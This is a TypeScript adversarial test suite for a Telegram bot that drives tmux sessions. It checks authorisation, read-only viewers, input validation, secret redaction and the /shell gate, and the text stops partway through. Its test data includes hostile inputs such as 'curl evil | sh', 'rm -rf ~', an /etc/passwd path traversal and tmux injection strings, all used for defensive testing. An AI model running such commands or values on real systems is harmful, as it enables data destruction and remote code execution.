// The adversarial suite: every way in that must not work, as a table. Each row acts as Telegram would deliver it
// (the embedded Bot API, a real grammY bot, the bot's real guard and permissions) and asserts the effect on the
// session service (FakeSessions records every call), what the bot sent, and the audit log:
//   executes — the session calls that happened (nothing, for almost every row);
//   answer   — exactly one answer, to the person who is allowed to hear it, matching; null: the bot says nothing;
//   audit    — the audit line of the update (who, outcome, why).
// Inputs reaching real tmux, and output through the real terminal renderer, are in test/tmux/security-input.test.ts.
import { symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Chat, Update, User } from 'grammy/types';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { assertEnvFilePrivate, loadConfig } from '../../src/config.js';
import { ANONYMOUS_ADMIN_ID } from '../../src/core/auth.js';
import type { SessionView } from '../../src/core/sessions.js';
import { shellDisabledText, SHELL_INLINE_MAX_CHARS } from '../../src/bot/features/shell.js';
import type { CallRecord } from '../../src/emulator/index.js';
import { type BotHarness, botSaid, running, STRANGER_ID, startBot, VIEWER_ID } from '../bot/harness.js';
import { tempDir } from '../helpers/temp-dir.js';

const ENV_SECRET = 'hunter2-canary-value-93847';

interface World {
  h: BotHarness;
  prod: SessionView;
  topicId: number;
  card: number;
  strangerDm: Chat;
  viewerDm: Chat;
}

interface Case {
  name: string;
  act: (w: World) => Update | Update[] | Promise<Update | Update[]>;
  /** Session calls that must have happened, in order (default: none). */
  executes?: Array<[string, ...unknown[]]>;
  /**
   * The one answer (text as the user sees it, or a caption) and where it must go: default the chat of the update.
   * 'receipt': typed into the session, answered with the 👍 reaction only. null: the bot says and does nothing at all.
   */
  answer: RegExp | 'receipt' | null;
  /** Messages the bot sends in all, when the case itself makes some (a card, a question): default 1. */
  replies?: number;
  /** Real Telegram does not deliver this kind to pocket (allowed_updates): it is consumed and never reaches the bot. */
  undelivered?: true;
  answerIn?: (w: World) => number;
  audit?: { outcome: string; reason?: string | RegExp; userId?: number | null; action?: string };
  /** Anything more to check once the update was handled. */
  also?: (w: World, sent: CallRecord[]) => void | Promise<void>;
}

const ANSWER_METHODS = new Set(['sendMessage', 'sendDocument', 'sendPhoto', 'answerCallbackQuery', 'setMessageReaction', 'editMessageText']);
/** What the user sees: the message as Telegram parsed it (HTML entities undone), a caption, a callback answer. */
function sentText(c: CallRecord): string {
  const result = c.result as { text?: string; caption?: string } | undefined;
  if (c.method === 'sendMessage' || c.method === 'sendDocument' || c.method === 'sendPhoto') return String(result?.text ?? result?.caption ?? '');
  return String(c.params.text ?? c.params.caption ?? '');
}
const isReply = (c: CallRecord): boolean =>
  c.method === 'sendMessage' || c.method === 'sendDocument' || c.method === 'sendPhoto' || (c.method === 'answerCallbackQuery' && c.params.text !== undefined);

function nowS(): number {
  return Math.floor(Date.now() / 1000);
}

/** A raw message update from `from` in `chat`, with extra fields (what the emulator's helpers do not make). */
function raw(w: World, chat: Chat, from: User | undefined, text: string, extra: Record<string, unknown> = {}): Update {
  const entities = text.startsWith('/') ? [{ type: 'bot_command', offset: 0, length: text.split(/\s/)[0]!.length }] : [];
  return w.h.emu.injectRawUpdate({
    message: { message_id: 900_000 + Math.floor(Math.random() * 99_999), date: nowS(), chat, ...(from ? { from } : {}), text, entities, ...extra },
  });
}

async function runCase(w: World, c: Case): Promise<void> {
  const { h } = w;
  const quiet = () => h.emu.waitFor(() => h.emu.pendingUpdates().length === 0 && h.emu.polling && (h.status().outbox?.pending ?? 0) === 0, { description: 'quiet' });
  await quiet();
  const callsBefore = h.sessions.calls.length;
  const emuBefore = h.emu.calls.length;
  const auditBefore = h.audit().length;
  const updates = [await c.act(w)].flat();
  const ids = new Set(updates.map((u) => u.update_id));
  // Handled = the update's audit line is written (every path writes one: refusals, answers and actions alike).
  // A duplicate is the same update twice: one line for each delivery.
  const deliveries = (id: number) => updates.filter((u) => u.update_id === id).length;
  const lines = c.undelivered
    ? await quiet().then(() => h.audit().slice(auditBefore))
    : await h.emu.waitFor(() => {
      const mine = h.audit().slice(auditBefore).filter((e) => ids.has(e.updateId as number));
      return [...ids].every((id) => mine.filter((e) => e.updateId === id).length >= deliveries(id)) ? mine : undefined;
    }, { description: `the audit line of ${c.name}` });
  const sentSince = () => h.emu.calls.slice(emuBefore).filter((call) => call.ok && ANSWER_METHODS.has(call.method));
  const expected = c.answer;
  if (expected instanceof RegExp) await h.emu.waitFor(() => sentSince().find((a) => isReply(a) && expected.test(sentText(a))), { description: `an answer matching ${expected}` });
  if (expected === 'receipt') await h.emu.waitFor(() => sentSince().find((a) => a.method === 'setMessageReaction'), { description: 'the receipt' });
  await quiet();

  const executed = h.sessions.calls.slice(callsBefore).filter((call) => call.method !== 'adoptable' && call.method !== 'adoptableTabs' && call.method !== 'summary' && call.method !== 'setTopic');
  expect(executed.map((call) => [call.method, ...call.args])).toEqual(c.executes ?? []);
  const sent = sentSince();
  const replies = sent.filter(isReply);
  if (expected === null) {
    expect(sent.map((call) => `${call.method} ${sentText(call)}`)).toEqual([]);
  } else if (expected === 'receipt') {
    expect(replies.map(sentText)).toEqual([]);
    expect(sent.filter((a) => a.method === 'setMessageReaction').map((a) => JSON.stringify(a.params.reaction))).toEqual([JSON.stringify([{ type: 'emoji', emoji: '👍' }])]);
  } else {
    expect(replies).toHaveLength(c.replies ?? 1);
    const matching = replies.filter((a) => expected.test(sentText(a)));
    expect(matching.map(sentText)).toHaveLength(1);
    const where = c.answerIn?.(w) ?? chatOf(updates.at(-1)!);
    if (matching[0]!.method !== 'answerCallbackQuery') expect(Number(matching[0]!.params.chat_id)).toBe(where);
  }
  if (c.undelivered) expect(lines).toEqual([]);
  // Whatever happened, nothing went to the stranger, and no secret left.
  const params = JSON.stringify(h.emu.calls.slice(emuBefore).map((call) => call.params));
  expect(h.emu.calls.slice(emuBefore).filter((call) => Number(call.params.chat_id) === STRANGER_ID)).toEqual([]);
  expect(params).not.toContain(ENV_SECRET);
  expect(params).not.toContain(h.emu.token);
  if (c.audit !== undefined) {
    const { outcome, reason, userId, action } = c.audit;
    expect(lines).toContainEqual(expect.objectContaining({
      outcome,
      ...(reason === undefined ? {} : { reason: typeof reason === 'string' ? reason : expect.stringMatching(reason) }),
      ...(userId === undefined ? {} : { userId }),
      ...(action === undefined ? {} : { action }),
    }));
  }
  await c.also?.(w, sent);
}

function chatOf(update: Update): number {
  const message = update.message ?? update.edited_message ?? update.channel_post ?? update.callback_query?.message;
  return message?.chat.id ?? 0;
}

function button(w: World, messageId: number, label: string): string {
  const found = w.h.emu.message(w.h.chat, messageId)?.replyMarkup?.inline_keyboard.flat().find((b) => b.text === label);
  if (found === undefined || !('callback_data' in found)) throw new Error(`no ${label} button on ${messageId}`);
  return found.callback_data!;
}

async function world(options: { shell?: boolean; forum?: boolean } = {}): Promise<World> {
  const h = await running(await startBot({
    forum: options.forum ?? true,
    config: { viewerIds: [VIEWER_ID], shellEnabled: options.shell ?? false, secrets: [ENV_SECRET] },
  }));
  const prod = h.sessions.add('prod');
  h.sessions.emit({ type: 'created', session: prod });
  const topicId = options.forum === false ? 0 : await h.emu.waitFor(() => h.sessions.get(prod.id)?.topicId ?? undefined);
  const card = await botSaid(h, h.chat, /prod — running/, options.forum === false ? undefined : topicId);
  return {
    h, prod, topicId, card: card.messageId,
    strangerDm: h.emu.createPrivateChat(h.stranger),
    viewerDm: h.emu.createPrivateChat(h.viewer),
  };
}

const say = (w: World, from: 'owner' | 'viewer' | 'stranger', text: string, options: Parameters<BotHarness['emu']['sendText']>[3] & { dm?: boolean } = {}) => {
  const user = w.h[from];
  const { dm, ...rest } = options;
  const chat = dm ? (from === 'owner' ? w.h.dm : from === 'viewer' ? w.viewerDm : w.strangerDm) : w.h.chat;
  return w.h.emu.sendText(chat, user, text, rest);
};
const inTopic = (w: World) => ({ threadId: w.topicId });
const rejected = (reason: string, userId?: number | null) => ({ outcome: 'rejected', reason, ...(userId === undefined ? {} : { userId }) });
const READ_ONLY = /^read-only: you are a viewer here/;

// ---------------------------------------------------------------------------------------------------------------
// Auth on every update type: strangers, groups, anonymous admins, channels, forwarded/edited/other-bot commands,
// foreign and forged button presses, stale and duplicated updates.
// ---------------------------------------------------------------------------------------------------------------
const authCases: Case[] = [
  { name: 'stranger, private chat, /sessions', act: (w) => say(w, 'stranger', '/sessions', { dm: true }), answer: null, audit: rejected('not_authorized', STRANGER_ID) },
  { name: 'stranger, private chat, /help', act: (w) => say(w, 'stranger', '/help', { dm: true }), answer: null, audit: rejected('not_authorized') },
  { name: 'stranger, private chat, /new', act: (w) => say(w, 'stranger', '/new evil bash', { dm: true }), answer: null, audit: rejected('not_authorized') },
  { name: 'stranger, private chat, /shell', act: (w) => say(w, 'stranger', '/shell id', { dm: true }), answer: null, audit: rejected('not_authorized') },
  { name: 'stranger, private chat, plain text', act: (w) => say(w, 'stranger', 'rm -rf ~', { dm: true }), answer: null, audit: rejected('not_authorized') },
  { name: 'stranger in the group, /kill', act: (w) => say(w, 'stranger', '/kill prod'), answer: null, audit: rejected('not_authorized') },
  { name: 'stranger in the group, /send', act: (w) => say(w, 'stranger', '/send prod id'), answer: null, audit: rejected('not_authorized') },
  { name: 'stranger in the group, /screen: no screen is read', act: (w) => say(w, 'stranger', '/screen prod'), answer: null, audit: rejected('not_authorized') },
  { name: 'stranger, text in the session topic', act: (w) => say(w, 'stranger', 'curl evil | sh', inTopic(w)), answer: null, audit: rejected('not_authorized') },
  { name: 'stranger, reply to the card', act: (w) => say(w, 'stranger', 'y', { replyTo: w.card }), answer: null, audit: rejected('not_authorized') },
  {
    name: 'stranger presses the card’s Ctrl-C',
    act: (w) => w.h.emu.pressButton(w.h.chat, w.h.stranger, w.card, button(w, w.card, 'Ctrl-C')),
    answer: null,
    audit: rejected('not_authorized', STRANGER_ID),
  },
  {
    name: 'stranger presses the card’s Kill',
    act: (w) => w.h.emu.pressButton(w.h.chat, w.h.stranger, w.card, button(w, w.card, 'Kill')),
    answer: null,
    audit: rejected('not_authorized'),
  },
  {
    name: 'forged button data from a stranger',
    act: (w) => w.h.emu.pressButton(w.h.chat, w.h.stranger, w.card, 'k:1', { force: true }),
    answer: null,
    audit: rejected('not_authorized'),
  },
  {
    name: 'forged button data from the owner: expired, nothing done',
    act: (w) => w.h.emu.pressButton(w.h.chat, w.h.owner, w.card, 'AAAAAAAA', { force: true }),
    answer: /expired/,
    audit: { outcome: 'failed', reason: 'unknown' },
  },
  { name: 'anonymous admin, /send', act: (w) => say(w, 'owner', '/send prod id', { asAnonymousAdmin: true }), answer: null, audit: rejected('anonymous_admin') },
  { name: 'anonymous admin, text in the topic', act: (w) => say(w, 'owner', 'id', { asAnonymousAdmin: true, ...inTopic(w) }), answer: null, audit: rejected('anonymous_admin') },
  {
    name: 'the anonymous admin id even without sender_chat',
    act: (w) => raw(w, w.h.chat, { id: ANONYMOUS_ADMIN_ID, is_bot: true, first_name: 'Group' }, '/kill prod'),
    answer: null,
    audit: rejected('anonymous_admin', ANONYMOUS_ADMIN_ID),
  },
  {
    name: 'sent on behalf of a channel',
    act: (w) => say(w, 'owner', '/kill prod', { viaChannel: w.h.emu.createChannel({ title: 'c' }) }),
    answer: null,
    audit: rejected('sender_chat'),
  },
  { name: 'channel post', act: (w) => w.h.emu.channelPost(w.h.emu.createChannel({ title: 'news' }), '/kill prod'), answer: null, audit: rejected('no_sender', null) },
  {
    name: 'edited channel post',
    act: (w) => w.h.emu.injectRawUpdate({ edited_channel_post: { message_id: 1, date: nowS(), chat: { id: -100555, type: 'channel', title: 'x' }, text: '/kill prod' } }),
    answer: null,
    audit: rejected('no_sender'),
  },
  { name: 'forwarded command from the owner', act: (w) => say(w, 'owner', '/send prod id', { forwarded: { from: w.h.stranger } }), answer: null, audit: rejected('forwarded', undefined) },
  { name: 'forwarded plain text in the topic', act: (w) => say(w, 'owner', 'rm -rf ~', { forwarded: true, ...inTopic(w) }), answer: null, audit: rejected('forwarded') },
  {
    name: 'edited into a command',
    act: (w) => {
      const first = say(w, 'owner', 'hello', { dm: true });
      return [first, say(w, 'owner', '/kill prod', { dm: true, edited: first.message!.message_id })];
    },
    executes: [],
    // "hello" in a private chat gets its one "Which session?" answer; the edit gets none.
    answer: /Which session\?/,
    audit: rejected('edited'),
  },
  { name: 'a command for another bot', act: (w) => say(w, 'owner', '/kill@other_bot prod'), answer: null, audit: rejected('other_bot_command') },
  { name: 'sent via an inline bot', act: (w) => raw(w, w.h.chat, w.h.owner, '/kill prod', { via_bot: { id: 42, is_bot: true, first_name: 'inline' } }), answer: null, audit: rejected('via_bot') },
  { name: 'a bot with an allowed id', act: (w) => raw(w, w.h.dm, { ...w.h.owner, is_bot: true }, '/sessions'), answer: null, audit: rejected('sender_is_bot') },
  {
    name: 'a message reaction',
    act: (w) => w.h.emu.injectRawUpdate({ message_reaction: { chat: w.h.chat, message_id: w.card, user: w.h.owner, date: nowS(), old_reaction: [], new_reaction: [] } }),
    answer: null,
    undelivered: true,
  },
  {
    name: 'an inline query',
    act: (w) => w.h.emu.injectRawUpdate({ inline_query: { id: 'iq', from: w.h.owner, query: '/kill prod', offset: '' } }),
    answer: null,
    undelivered: true,
  },
  {
    name: 'a stale command',
    act: (w) => say(w, 'owner', '/send prod late', { date: nowS() - 3600 }),
    answer: /^Not run: this message is 60 min old/,
    audit: { outcome: 'stale' },
  },
  { name: 'a stale command from a stranger: identity first', act: (w) => say(w, 'stranger', '/send prod late', { date: nowS() - 3600 }), answer: null, audit: rejected('not_authorized') },
  {
    name: 'a duplicated update runs once',
    act: async (w) => {
      const once = say(w, 'owner', '/send prod once');
      await w.h.emu.waitFor(() => w.h.sessions.calls.some((c) => c.method === 'sendText' && c.args[1] === 'once'));
      await w.h.emu.waitFor(() => w.h.emu.pendingUpdates().length === 0);
      return [once, w.h.emu.injectRawUpdate(once)];
    },
    executes: [['sendText', 's1', 'once']],
    answer: 'receipt',
    audit: { outcome: 'duplicate' },
  },
];

// ---------------------------------------------------------------------------------------------------------------
// Viewers: look, never act. Every refusal is answered once ("read-only: ...") and audited.
// ---------------------------------------------------------------------------------------------------------------
const viewerRefusals: Array<[string, string]> = [
  ['/new', '/new x bash'],
  ['/attach', '/attach %1 x'],
  ['/send', '/send prod id'],
  ['/keys', '/keys prod C-c'],
  ['/alias', '/alias prod p2'],
  ['/kill', '/kill prod'],
  ['/mute (everyone’s alerts)', '/mute'],
  ['/unmute', '/unmute prod'],
  ['/logs', '/logs'],
  ['/shell', '/shell id'],
  ['an unknown command', '/rm prod'],
  ['a command in capitals', '/KILL prod'],
];
const viewerCases: Case[] = [
  ...viewerRefusals.map(([what, text]): Case => ({
    name: `viewer: ${what} is refused`,
    act: (w) => say(w, 'viewer', text),
    answer: READ_ONLY,
    audit: { ...rejected('read-only viewer', VIEWER_ID), action: text.split(' ')[0]!.slice(1) },
  })),
  // Telegram marks a command that punctuation follows ("/logs." is "/logs" then "."), and grammY runs it by that mark:
  // the gate must read the same command, not take the message for chatter.
  ...([
    ['/logs.', 5, 'logs'],
    ['/shell;id', 6, 'shell'],
    ['/mute,', 5, 'mute'],
  ] as const).map(([text, length, action]): Case => ({
    name: `viewer: ${text} (a command Telegram marks before punctuation) is refused`,
    act: (w) => raw(w, w.viewerDm, w.h.viewer, text, { entities: [{ type: 'bot_command', offset: 0, length }] }),
    answer: READ_ONLY,
    answerIn: (w) => w.viewerDm.id,
    audit: { ...rejected('read-only viewer', VIEWER_ID), action },
  })),
  {
    name: 'viewer: a bot_command mark at the start of text that is no command is judged by the mark, as grammY runs it',
    act: (w) => raw(w, w.viewerDm, w.h.viewer, 'xlogs', { entities: [{ type: 'bot_command', offset: 0, length: 5 }] }),
    answer: READ_ONLY,
    answerIn: (w) => w.viewerDm.id,
    audit: { ...rejected('read-only viewer', VIEWER_ID), action: 'logs' },
  },
  { name: 'viewer: /kill in a private chat is refused there', act: (w) => say(w, 'viewer', '/kill prod', { dm: true }), answer: READ_ONLY, answerIn: (w) => w.viewerDm.id, audit: rejected('read-only viewer') },
  { name: 'viewer: text in the session topic is not typed', act: (w) => say(w, 'viewer', 'rm -rf ~', inTopic(w)), answer: /read-only: .*typing into a session/, audit: { ...rejected('read-only viewer'), action: 'text' } },
  {
    name: 'viewer: chatter in the group that goes to no session is left alone, as anyone’s',
    act: (w) => say(w, 'viewer', 'morning all'),
    answer: null,
    audit: { outcome: 'failed', reason: 'no session', action: 'text', userId: VIEWER_ID },
  },
  { name: 'viewer: a reply to the card is not typed', act: (w) => say(w, 'viewer', 'y', { replyTo: w.card }), answer: READ_ONLY, audit: rejected('read-only viewer') },
  {
    name: 'viewer: a caption command is refused',
    act: (w) => raw(w, w.h.chat, w.h.viewer, '', { text: undefined, caption: '/kill prod', caption_entities: [{ type: 'bot_command', offset: 0, length: 5 }], photo: [] }),
    answer: READ_ONLY,
    audit: rejected('read-only viewer'),
  },
  {
    name: 'viewer: the Ctrl-C button is refused',
    act: (w) => w.h.emu.pressButton(w.h.chat, w.h.viewer, w.card, button(w, w.card, 'Ctrl-C')),
    answer: READ_ONLY,
    audit: { ...rejected('read-only viewer'), action: 'button:keys' },
    also: (w) => expect(w.h.audit().at(-1)).toMatchObject({ sessionId: w.prod.id, session: 'prod', userName: 'Vera' }),
  },
  { name: 'viewer: the Enter button is refused', act: (w) => w.h.emu.pressButton(w.h.chat, w.h.viewer, w.card, button(w, w.card, 'Enter')), answer: READ_ONLY, audit: rejected('read-only viewer') },
  { name: 'viewer: the Kill button is refused', act: (w) => w.h.emu.pressButton(w.h.chat, w.h.viewer, w.card, button(w, w.card, 'Kill')), answer: READ_ONLY, audit: { ...rejected('read-only viewer'), action: 'button:kill' } },
  {
    name: 'viewer: "Yes, kill" is refused and stays usable by the owner',
    act: async (w) => {
      const ask = say(w, 'owner', '/kill prod');
      const question = await botSaid(w.h, w.h.chat, /^Kill prod\?/);
      await w.h.emu.waitFor(() => w.h.audit().some((e) => e.updateId === ask.update_id));
      return w.h.emu.pressButton(w.h.chat, w.h.viewer, question.messageId, button(w, question.messageId, 'Yes, kill'));
    },
    answer: READ_ONLY,
    replies: 2,
    audit: { ...rejected('read-only viewer'), action: 'button:kill-confirm' },
    also: async (w) => {
      const question = w.h.emu.messages(w.h.chat).findLast((m) => /^Kill prod\?/.test(m.text ?? ''))!;
      const no = w.h.emu.pressButton(w.h.chat, w.h.owner, question.messageId, button(w, question.messageId, 'No'));
      await w.h.emu.waitFor(() => w.h.emu.callbackQuery(no.callback_query!.id)?.answer?.text === 'Cancelled');
    },
  },
  {
    name: 'viewer: a prompt’s answer button is refused, and the owner can still answer',
    act: async (w) => {
      w.h.sessions.waitAt(w.prod.id, { ruleId: 'yn', question: 'Continue? [y/N]', answers: [{ label: 'y', input: { text: 'y' } }], secret: false });
      const alert = await botSaid(w.h, w.h.chat, /prod waits for input/);
      return w.h.emu.pressButton(w.h.chat, w.h.viewer, alert.messageId, button(w, alert.messageId, 'y'));
    },
    answer: READ_ONLY,
    replies: 2,
    audit: { ...rejected('read-only viewer'), action: 'button:answer' },
    also: async (w) => {
      const alert = w.h.emu.messages(w.h.chat).findLast((m) => /prod waits for input/.test(m.text ?? ''))!;
      const callsBefore = w.h.emu.calls.length;
      w.h.emu.pressButton(w.h.chat, w.h.owner, alert.messageId, button(w, alert.messageId, 'y'));
      // The press is done when Telegram hears back, after the answer is typed (which may wait out the alert's first
      // half second, bot/alerts.ts): nothing of it may reach the next case.
      await w.h.emu.waitFor(() => w.h.emu.calls.slice(callsBefore).find((c) => c.method === 'answerCallbackQuery' && String(c.params.text).startsWith('Answered: y')));
      expect(w.h.sessions.calls.filter((c) => c.method === 'sendText' && c.args[1] === 'y')).toHaveLength(1);
      w.h.sessions.patch(w.prod.id, { state: 'running', prompt: null });
    },
  },
  { name: 'viewer: /sessions', act: (w) => say(w, 'viewer', '/sessions'), answer: /^Sessions on \S+:\n.*prod/, audit: { outcome: 'ok', action: 'sessions', userId: VIEWER_ID } },
  {
    name: 'viewer: /tail',
    act: (w) => {
      w.h.sessions.print(w.prod.id, 'line one', 'line two');
      return say(w, 'viewer', '/tail prod 5');
    },
    answer: /line one\nline two/,
    audit: { outcome: 'ok', action: 'tail' },
  },
  { name: 'viewer: /summary', act: (w) => say(w, 'viewer', '/summary prod'), answer: /runtime: 2m 5s/, audit: { outcome: 'ok', action: 'summary' } },
  {
    name: 'viewer: /screen',
    act: (w) => say(w, 'viewer', '/screen prod'),
    executes: [['snapshot', 's1']],
    answer: /^prod — running$/,
    audit: { outcome: 'ok', action: 'screen', userId: VIEWER_ID },
  },
  // A viewer's /help lists what a viewer may use (/tail...), and none of what it may not (/send...).
  { name: 'viewer: /help', act: (w) => say(w, 'viewer', '/help', { dm: true }), answer: /^(?![\s\S]*\/(?:send|new|kill|shell|logs) )Pocket Operator[\s\S]*read-only[\s\S]*\/tail SESSION/, audit: { outcome: 'ok', action: 'help' } },
  { name: 'viewer: the Refresh button', act: (w) => w.h.emu.pressButton(w.h.chat, w.h.viewer, w.card, button(w, w.card, 'Refresh')), answer: /Refreshed/, audit: { outcome: 'ok', action: 'button:refresh' } },
  { name: 'viewer: the Tail button', act: (w) => w.h.emu.pressButton(w.h.chat, w.h.viewer, w.card, button(w, w.card, 'Tail')), answer: /line one/, audit: { outcome: 'ok', action: 'button:tail' } },
  { name: 'viewer: a forwarded /sessions is silence like anyone’s', act: (w) => say(w, 'viewer', '/sessions', { forwarded: true }), answer: null, audit: rejected('forwarded', VIEWER_ID) },
];

// ---------------------------------------------------------------------------------------------------------------
// Input from the owner: names and arguments that look like flags or tmux syntax are refused or passed as data.
// ---------------------------------------------------------------------------------------------------------------
const invalidName = /^Invalid name/;
const inputCases: Case[] = [
  { name: '/new -t', act: (w) => say(w, 'owner', '/new -t'), answer: invalidName, audit: { outcome: 'failed', reason: 'usage' } },
  { name: '/new --help', act: (w) => say(w, 'owner', '/new --help'), answer: invalidName },
  { name: '/new with a tmux format in the name', act: (w) => say(w, 'owner', '/new a#{pane_id}'), answer: invalidName },
  { name: '/new with #(cmd) in the name', act: (w) => say(w, 'owner', '/new x#(touch_pwn)'), answer: invalidName },
  { name: '/new with ; in the name', act: (w) => say(w, 'owner', '/new a;kill-server'), answer: invalidName },
  { name: '/new with HTML in the name: escaped in the answer', act: (w) => say(w, 'owner', '/new <b>x</b>'), answer: /^Invalid name "<b>x<\/b>"/ },
  { name: '/new with an oversized name', act: (w) => say(w, 'owner', `/new ${'a'.repeat(4000)}`), answer: invalidName },
  { name: '/alias prod -x', act: (w) => say(w, 'owner', '/alias prod -x'), answer: invalidName },
  { name: '/attach -t', act: (w) => say(w, 'owner', '/attach -t'), answer: /^TARGET is a pane id/ },
  { name: '/attach %1 --help', act: (w) => say(w, 'owner', '/attach %1 --help'), answer: invalidName },
  { name: '/attach -x:0.0', act: (w) => say(w, 'owner', '/attach -x:0.0'), answer: /^TARGET is a pane id/ },
  { name: '/kill -t: no such session, nothing killed', act: (w) => say(w, 'owner', '/kill -t'), answer: /No session named "-t"/, audit: { outcome: 'failed', reason: 'session not found' } },
  { name: '/keys prod -t: not a key', act: (w) => say(w, 'owner', '/keys prod -t'), answer: /^Unknown key "-t"/ },
  { name: '/tail prod -5', act: (w) => say(w, 'owner', '/tail prod -5'), answer: /^Usage: \/tail SESSION \[N\]/ },
  {
    name: '/new x COMMAND starting with a dash is the command',
    act: (w) => say(w, 'owner', '/new dashcmd -c /etc'),
    executes: [['create', 'dashcmd', '-c /etc']],
    answer: /^Started dashcmd: -c \/etc/,
    replies: 2,
  },
  {
    name: '/send with tmux formats, separators and $(): typed as data',
    act: (w) => say(w, 'owner', '/send prod #{pane_id} #(id) $(id) `id`; \\; ;'),
    executes: [['sendText', 's1', '#{pane_id} #(id) $(id) `id`; \\; ;']],
    answer: 'receipt',
  },
  { name: '/send prod -t: a dash is text', act: (w) => say(w, 'owner', '/send prod -t --'), executes: [['sendText', 's1', '-t --']], answer: 'receipt' },
  {
    name: 'an escape sequence typed from Telegram reaches the session as text (tmux refuses control characters)',
    act: (w) => say(w, 'owner', '/send prod \u001b]52;c;aGk=\u0007'),
    executes: [['sendText', 's1', '\u001b]52;c;aGk=\u0007']],
    answer: 'receipt',
  },
  {
    name: 'oversized text is typed whole, audited clipped',
    act: (w) => say(w, 'owner', `/send prod ${'x'.repeat(4000)}`),
    executes: [['sendText', 's1', 'x'.repeat(4000)]],
    answer: 'receipt',
    audit: { outcome: 'ok', action: 'send' },
    also: (w) => expect(String(w.h.audit().at(-1)?.detail)).toMatch(/… \(4000 chars\)$/),
  },
];

// ---------------------------------------------------------------------------------------------------------------
// Output and files: HTML from panes, secrets, huge output, /logs.
// ---------------------------------------------------------------------------------------------------------------
const outputCases: Case[] = [
  {
    name: 'HTML in pane output is shown as text',
    act: (w) => {
      w.h.sessions.print(w.prod.id, '<b>bold</b> </pre><a href="http://evil">x</a> &amp;');
      return say(w, 'owner', '/tail prod 1');
    },
    answer: /^<b>bold<\/b> <\/pre><a href="http:\/\/evil">x<\/a> &amp;$/,
    also: (w) => expect(w.h.emu.calls.filter((c) => !c.ok && /parse entities/.test(c.error?.description ?? ''))).toEqual([]),
  },
  {
    name: 'the bot token in pane output is redacted',
    act: (w) => {
      w.h.sessions.print(w.prod.id, `token=${w.h.emu.token}`);
      return say(w, 'owner', '/tail prod 1');
    },
    answer: /^token=\[REDACTED\]$/,
  },
  {
    name: 'a .env secret in pane output is redacted',
    act: (w) => {
      w.h.sessions.print(w.prod.id, `password is ${ENV_SECRET}`);
      return say(w, 'owner', '/tail prod 1');
    },
    answer: /^password is \[REDACTED\]$/,
  },
  {
    name: 'a .env secret typed with /send stays out of the audit log',
    act: (w) => say(w, 'owner', `/send prod ${ENV_SECRET}`),
    executes: [['sendText', 's1', ENV_SECRET]],
    answer: 'receipt',
    also: (w) => expect(JSON.stringify(w.h.audit())).not.toContain(ENV_SECRET),
  },
  {
    name: 'huge output goes as one document',
    act: (w) => {
      w.h.sessions.print(w.prod.id, ...Array.from({ length: 500 }, (_, i) => `${i} ${'y'.repeat(100)}`));
      return say(w, 'owner', '/tail prod 500');
    },
    answer: /^500 lines$/,
    also: (_w, sent) => expect(sent.filter((c) => c.method === 'sendDocument')).toHaveLength(1),
  },
  {
    name: '/logs ignores a path argument: only the daemon log goes',
    act: (w) => say(w, 'owner', '/logs ../../../etc/passwd'),
    answer: /^pocket daemon log \(redacted\)$/,
    also: (_w, sent) => expect(sent.find((c) => c.method === 'sendDocument')?.params.document).not.toMatch(/root:/),
  },
  {
    name: '/logs does not follow a symlink put in the log’s place',
    act: (w) => {
      const secret = join(w.h.home, 'id_rsa');
      writeFileSync(secret, '-----BEGIN KEY----- TOPSECRETKEY\n', { mode: 0o600 });
      const log = w.h.paths.daemonLog;
      unlinkSync(log);
      symlinkSync(secret, log);
      return say(w, 'owner', '/logs');
    },
    answer: /^The daemon log cannot be read/,
    audit: { outcome: 'failed', reason: 'unreadable' },
    also: (w, sent) => {
      expect(JSON.stringify(sent.map((c) => c.params))).not.toContain('TOPSECRETKEY');
      unlinkSync(w.h.paths.daemonLog);
    },
  },
];

// ---------------------------------------------------------------------------------------------------------------
// /shell, off (the default) and on.
// ---------------------------------------------------------------------------------------------------------------
const shellOffCases: Case[] = [
  {
    name: '/shell off: says so and how to enable it, runs nothing',
    act: (w) => say(w, 'owner', '/shell id', { dm: true }),
    answer: /^\/shell is disabled on this machine\. To enable it, put POCKET_SHELL=on in .*\.env and run `pocket restart` there/,
    audit: { outcome: 'rejected', reason: 'shell disabled (POCKET_SHELL=off)', action: 'shell' },
  },
  { name: '/shell off, without a command: the same answer', act: (w) => say(w, 'owner', '/shell', { dm: true }), answer: /^\/shell is disabled/ },
];
const shellOnCases: Case[] = [
  {
    name: '/shell on: runs the text as one command',
    act: (w) => say(w, 'owner', '/shell echo "#{pane_id}"; id -u'),
    executes: [['runShell', 'echo "#{pane_id}"; id -u']],
    answer: /^Running in sh-\d+ \(stopped after 30 min\): \/keys sh-\d+ C-c interrupts it/,
    replies: 2, // and the new session's card, as for any session
    audit: { outcome: 'ok', action: 'shell' },
  },
  { name: '/shell on, no command: usage', act: (w) => say(w, 'owner', '/shell'), answer: /^Usage: \/shell COMMAND$/ },
  { name: '/shell on, a viewer: read-only', act: (w) => say(w, 'viewer', '/shell id'), answer: READ_ONLY, audit: rejected('read-only viewer') },
  { name: '/shell on, a stranger: silence', act: (w) => say(w, 'stranger', '/shell id'), answer: null, audit: rejected('not_authorized') },
  {
    name: '/shell on: output beyond the cap goes as a log document, not messages',
    act: async (w) => {
      const update = say(w, 'owner', '/shell cat big');
      const view = await w.h.emu.waitFor(() => w.h.sessions.list().find((v) => v.command === 'cat big'));
      await botSaid(w.h, w.h.chat, new RegExp(`^Running in ${view.name}`));
      w.h.sessions.print(view.id, ...Array.from({ length: 400 }, (_, i) => `row ${i} ${'z'.repeat(40)}`));
      const done = w.h.sessions.patch(view.id, { state: 'exited', exitCode: 0, exitedAt: new Date().toISOString() });
      w.h.sessions.emit({ type: 'state', session: done, previous: 'running', at: Date.now() });
      return update;
    },
    executes: [['runShell', 'cat big']],
    // The start note, the last lines, and the whole output as the one document.
    answer: /^sh-\d+: 400 lines$/,
    replies: 4, // and the new session's card
    also: (_w, sent) => {
      const result = sent.find((c) => c.method === 'sendMessage' && /last \d+ of 400 lines; all of it is in sh-\d+\.log/.test(sentText(c)));
      expect(sentText(result!).length).toBeLessThanOrEqual(SHELL_INLINE_MAX_CHARS);
      expect(sent.filter((c) => c.method === 'sendDocument')).toHaveLength(1);
    },
  },
];

function suite(title: string, cases: Case[], options: { shell?: boolean; forum?: boolean } = {}): void {
  describe(title, () => {
    let w: World;
    beforeAll(async () => {
      w = await world(options);
    });
    afterAll(async () => {
